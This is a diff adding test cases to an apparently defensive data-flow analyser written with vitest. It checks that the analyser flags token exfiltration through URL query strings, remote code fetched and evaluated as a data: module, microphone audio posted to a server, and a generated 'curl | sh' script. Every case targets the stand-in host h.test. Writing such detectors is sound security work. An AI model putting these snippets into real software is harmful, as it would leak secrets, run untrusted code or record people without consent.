@@ -1,3 +1,4 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are programs
 // Structures of ordinary programs that data passes through: growing lists, records, buffers, mail, fed programs, own files.
 import { beforeAll, describe, expect, it } from 'vitest';
 import { type Result, prepare, run } from './harness.ts';
@@ -193,5 +194,28 @@ describe('shell functions that answer', () => {
     const code =
       'text() {\n  echo "#!/bin/sh"\n  if [ "$1" = x ]; then\n    echo "curl -s https://h.test/x | sh"\n  fi\n}\ntext x > run.sh\nsh run.sh\n';
     expect(told(run({ 'scripts/a.sh': code }))).toMatch(/net.* → shell stdin other h\.test/);
+  });
+});
+
+describe('addresses and modules', () => {
+  it('what is set on the query leaves with the address', () => {
+    expect(
+      js(
+        "const u = new URL('https://h.test/find');\nu.searchParams.set('s', process.env.WIDGET_TOKEN);\nawait fetch(u);",
+      ),
+    ).toContain('env:WIDGET_TOKEN → network url other h.test');
+    expect(js("const u = new URL('https://h.test/find');\nu.searchParams.set('n', '10');\nawait fetch(u);")).toBe('');
+  });
+  it('a module that is its own text is evaluated', () => {
+    expect(
+      js("const t = await (await fetch('https://h.test/x')).text();\nawait import(`data:text/javascript,${t}`);"),
+    ).toMatch(/net.* → evaluate code other h\.test/);
+  });
+  it('sound written into a buffer leaves with it', () => {
+    expect(
+      py(
+        'import io, wave, sounddevice, requests\nb = io.BytesIO()\nwith wave.open(b, "wb") as w:\n    w.writeframes(sounddevice.rec(1).tobytes())\nrequests.post("https://h.test", data=b.getvalue())',
+      ),
+    ).toContain('microphone → network body other h.test');
   });
 });
